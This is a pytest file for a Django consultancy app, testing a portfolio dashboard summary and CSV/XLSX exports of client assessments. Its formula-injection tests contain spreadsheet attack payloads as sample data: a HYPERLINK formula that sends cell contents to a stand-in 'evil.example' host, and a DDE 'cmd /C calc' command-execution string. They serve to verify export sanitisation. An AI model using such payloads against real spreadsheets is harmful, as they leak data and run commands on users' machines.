"""The portfolio summary (pandas) and the CSV/XLSX exports."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from accounts.models import Organization
from assessments.models import Answer
from consultants.exports import guard_cell
from tests.conftest import verified_login
from tests.consultants.conftest import submitted_assessment
from tests.factories import MembershipFactory

pytestmark = pytest.mark.django_db


def client_of(firm, name, sector="retail"):
    membership = MembershipFactory(
        organization__name=name, organization__sector=sector, organization__firm=firm
    )
    return membership.organization, membership.user


@pytest.fixture
def clients(firm_a, mini_framework):
    """Three submitted clients and one not started.

    Every client answers 0 on FI-A-01 and 4 on OP-F-01, so FI-A-01 is the
    portfolio's weakest question and OP-F-01 its strongest.
    """
    pinned = {"FI-A-01": "0", "OP-F-01": "4"}
    a, a_owner = client_of(firm_a, "Anchor Bakery", "retail")
    submitted_assessment(a, a_owner, "4", overrides=pinned, days_ago=90)  # older, replaced below
    submitted_assessment(a, a_owner, "2", overrides=pinned, days_ago=5)
    b, b_owner = client_of(firm_a, "Breakwater Metal", "manufacturing")
    submitted_assessment(b, b_owner, "4", overrides={**pinned, "TE-F-01": "dont_know"})
    c, c_owner = client_of(firm_a, "Cove Consulting", "service")
    submitted_assessment(c, c_owner, "0", overrides={**pinned, "OP-A-01": "na"})
    client_of(firm_a, "Dune Software", "technology")
    return {"a": a, "b": b, "c": c}


def test_the_portfolio_summarises_every_client_once(client, consultant, clients):
    verified_login(client, consultant)
    response = client.get(reverse("consultants:portfolio"))
    assert response.status_code == 200
    summary = response.context["summary"]
    assert summary.client_count == 4
    assert summary.scored_count == 3
    assert summary.not_started_count == 1
    expected = [
        o.assessments.filter(status="submitted").order_by("-submitted_at").first().overall_score
        for o in clients.values()
    ]
    assert summary.mean_overall == pytest.approx(round(sum(expected) / 3, 1))
    means = {p.key: p for p in summary.pillar_means}
    assert set(means) == {"operational", "financial", "adaptive", "technology"}
    assert all(p.count == 3 for p in means.values())


def test_the_maturity_distribution_counts_every_client(client, consultant, clients):
    verified_login(client, consultant)
    summary = client.get(reverse("consultants:portfolio")).context["summary"]
    distribution = dict(summary.maturity_distribution)
    assert sum(distribution.values()) == 4
    assert distribution["Not yet scored"] == 1
    assert list(distribution) == [
        "Initial",
        "Fundamentals",
        "Intermediate",
        "Advanced",
        "Not yet scored",
    ]


def test_the_maturity_chart_is_an_svg_with_a_title_and_a_table_alternative(
    client, consultant, clients
):
    verified_login(client, consultant)
    html = client.get(reverse("consultants:portfolio")).content.decode()
    assert '<svg class="chart"' in html and 'role="img"' in html
    assert '<title id="maturity-chart-title">Number of clients at each maturity level</title>' in (
        html
    )
    assert "<caption" in html and "Clients at each maturity level" in html
    assert html.count('<rect class="bar"') == 5


def test_the_weakest_questions_use_the_latest_submission_of_each_client(
    client, consultant, clients
):
    verified_login(client, consultant)
    weakest = client.get(reverse("consultants:portfolio")).context["summary"].weakest_questions
    assert len(weakest) == 10
    assert weakest[0].code == "FI-A-01"
    assert weakest[0].mean_percent == 0
    assert weakest[0].clients == 3  # Anchor's older assessment does not count twice
    codes = [q.code for q in weakest]
    assert "OP-F-01" not in codes  # everyone's best answer
    te_f = next(q for q in weakest if q.code == "TE-F-01")
    # Anchor 2 → 50%, Breakwater "don't know" → 0%, Cove 0 → 0%.
    assert te_f.mean_percent == pytest.approx(round(100 * 0.5 / 3, 1))
    op_a = next((q for q in weakest if q.code == "OP-A-01"), None)
    if op_a is not None:
        assert op_a.clients == 2  # "not applicable" is left out


def test_sector_breakdown(client, consultant, clients):
    verified_login(client, consultant)
    sectors = {
        s.label: s for s in client.get(reverse("consultants:portfolio")).context["summary"].sectors
    }
    assert set(sectors) == {"Retail", "Manufacturing", "Service", "Technology"}
    assert sectors["Technology"].clients == 1 and sectors["Technology"].scored == 0
    assert sectors["Technology"].mean_overall is None
    assert sectors["Manufacturing"].mean_overall == pytest.approx(
        round(clients["b"].assessments.get().overall_score, 1)
    )


def test_an_empty_portfolio_renders(client, consultant, mini_framework):
    verified_login(client, consultant)
    response = client.get(reverse("consultants:portfolio"))
    assert response.status_code == 200
    assert b"No client has submitted an assessment yet." in response.content


# --- Exports --------------------------------------------------------------------------


def read_csv(response):
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_xlsx(response):
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    rows = list(book.active.iter_rows(values_only=True))
    return book.active, [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_the_portfolio_exports_as_csv_with_safe_headers(client, consultant, clients):
    verified_login(client, consultant)
    response = client.get(reverse("consultants:portfolio_export", args=["csv"]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "no-store" in response["Cache-Control"].split(", ")
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="harbour-partners-portfolio-')
    assert disposition.endswith('.csv"')
    rows = read_csv(response)
    assert [r["Organization"] for r in rows] == [
        "Anchor Bakery",
        "Breakwater Metal",
        "Cove Consulting",
        "Dune Software",
    ]
    anchor = rows[0]
    assert anchor["Sector"] == "Retail"
    assert anchor["Status"] == "Submitted"
    assert float(anchor["Overall score"]) == pytest.approx(
        round(clients["a"].assessments.order_by("-submitted_at")[0].overall_score, 1)
    )
    assert "Operational resilience" in anchor
    assert rows[3]["Status"] == "Not started" and rows[3]["Overall score"] == ""


def test_the_portfolio_exports_as_xlsx(client, consultant, clients):
    verified_login(client, consultant)
    response = client.get(reverse("consultants:portfolio_export", args=["xlsx"]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].endswith('.xlsx"')
    assert "no-store" in response["Cache-Control"].split(", ")
    sheet, rows = read_xlsx(response)
    assert sheet.title == "Portfolio"
    assert [r["Organization"] for r in rows][:3] == [
        "Anchor Bakery",
        "Breakwater Metal",
        "Cove Consulting",
    ]
    assert isinstance(rows[0]["Overall score"], int | float)  # a number, not text
    assert rows[0]["Last submitted"] is not None


def test_the_export_follows_the_dashboard_filters(client, consultant, clients):
    verified_login(client, consultant)
    response = client.get(
        reverse("consultants:portfolio_export", args=["csv"]), {"sector": "retail", "page": "x"}
    )
    assert [r["Organization"] for r in read_csv(response)] == ["Anchor Bakery"]


def test_unknown_export_formats_are_404(client, consultant, clients):
    verified_login(client, consultant)
    assert client.get("/consultant/portfolio/export.pdf").status_code == 404
    assessment = clients["a"].assessments.first()
    assert client.get(f"/consultant/assessments/{assessment.pk}/answers.json").status_code == 404


def test_one_assessments_answers_export_as_csv_and_xlsx(client, consultant, clients):
    assessment = clients["c"].assessments.get()
    Answer.objects.filter(assessment=assessment, question__code="FI-F-01").update(
        note="Bank overdraft agreed in May."
    )
    verified_login(client, consultant)
    response = client.get(reverse("consultants:assessment_export", args=[assessment.pk, "csv"]))
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"].split(", ")
    assert response["Content-Disposition"].startswith(
        f'attachment; filename="{clients["c"].slug}-assessment-'
    )
    rows = read_csv(response)
    assert len(rows) == 12
    assert list(rows[0]) == [
        "Question ID",
        "Pillar",
        "Level",
        "Question",
        "Answer",
        "Value",
        "Note",
    ]
    by_code = {r["Question ID"]: r for r in rows}
    assert by_code["OP-F-01"]["Answer"] == "Done and tested"
    assert by_code["OP-F-01"]["Value"] == "4"
    assert (
        by_code["OP-A-01"]["Answer"] == "Not applicable to my business"
        and by_code["OP-A-01"]["Value"] == ""
    )
    assert by_code["FI-F-01"]["Note"] == "Bank overdraft agreed in May."
    assert by_code["OP-F-01"]["Pillar"] == "Operational resilience"
    assert by_code["OP-F-01"]["Level"] == "Fundamentals"

    response = client.get(reverse("consultants:assessment_export", args=[assessment.pk, "xlsx"]))
    sheet, rows = read_xlsx(response)
    assert sheet.title == "Answers"
    assert len(rows) == 12
    assert {r["Question ID"]: r["Value"] for r in rows}["OP-F-01"] == 4


def test_an_in_progress_assessment_exports_its_unanswered_questions(
    client, consultant, client_org, client_owner
):
    from assessments.services import assessment_start

    assessment = assessment_start(organization=client_org, user=client_owner)
    verified_login(client, consultant)
    rows = read_csv(
        client.get(reverse("consultants:assessment_export", args=[assessment.pk, "csv"]))
    )
    assert {r["Answer"] for r in rows} == {"Not answered"}


@pytest.mark.parametrize(
    "value, expected",
    [
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("Plain name", "Plain name"),
        (42, 42),
        (None, None),
    ],
)
def test_guard_cell(value, expected):
    assert guard_cell(value) == expected


def test_formulas_in_client_data_are_never_formulas_in_the_exports(client, consultant, clients):
    org = clients["a"]
    Organization.objects.filter(pk=org.pk).update(
        name='=HYPERLINK("http://evil.example/?"&A1,"x")', region="@SUM(1+1)"
    )
    assessment = org.assessments.order_by("-submitted_at").first()
    Answer.objects.filter(assessment=assessment, question__code="OP-F-01").update(
        note="-cmd|' /C calc'!A0"
    )
    verified_login(client, consultant)

    rows = read_csv(client.get(reverse("consultants:portfolio_export", args=["csv"])))
    evil = next(r for r in rows if "HYPERLINK" in r["Organization"])
    assert evil["Organization"].startswith("'=")
    assert evil["Region"] == "'@SUM(1+1)"

    sheet, rows = read_xlsx(client.get(reverse("consultants:portfolio_export", args=["xlsx"])))
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    assert any(r["Organization"] == '=HYPERLINK("http://evil.example/?"&A1,"x")' for r in rows)

    answers = read_csv(
        client.get(reverse("consultants:assessment_export", args=[assessment.pk, "csv"]))
    )
    note = next(r["Note"] for r in answers if r["Question ID"] == "OP-F-01")
    assert note == "'-cmd|' /C calc'!A0"


def test_control_characters_pasted_into_client_text_never_break_the_exports(
    client, consultant, clients
):
    """Text pasted from Word can hold \x0b; XLSX cannot store it, so every export drops it."""
    org = clients["a"]
    Organization.objects.filter(pk=org.pk).update(name="Corner\x0bBakery\x07", region="Wales\x1f")
    assessment = org.assessments.order_by("-submitted_at").first()
    Answer.objects.filter(assessment=assessment, question__code="OP-F-01").update(
        note="Line one\x0bline two\tand a tab\nand a line"
    )
    verified_login(client, consultant)

    _, rows = read_xlsx(client.get(reverse("consultants:portfolio_export", args=["xlsx"])))
    assert any(r["Organization"] == "CornerBakery" and r["Region"] == "Wales" for r in rows)
    rows = read_csv(client.get(reverse("consultants:portfolio_export", args=["csv"])))
    assert any(r["Organization"] == "CornerBakery" for r in rows)

    for fmt, read in (("xlsx", lambda r: read_xlsx(r)[1]), ("csv", read_csv)):
        url = reverse("consultants:assessment_export", args=[assessment.pk, fmt])
        answers = read(client.get(url))
        note = next(r["Note"] for r in answers if r["Question ID"] == "OP-F-01")
        assert note == "Line oneline two\tand a tab\nand a line", fmt
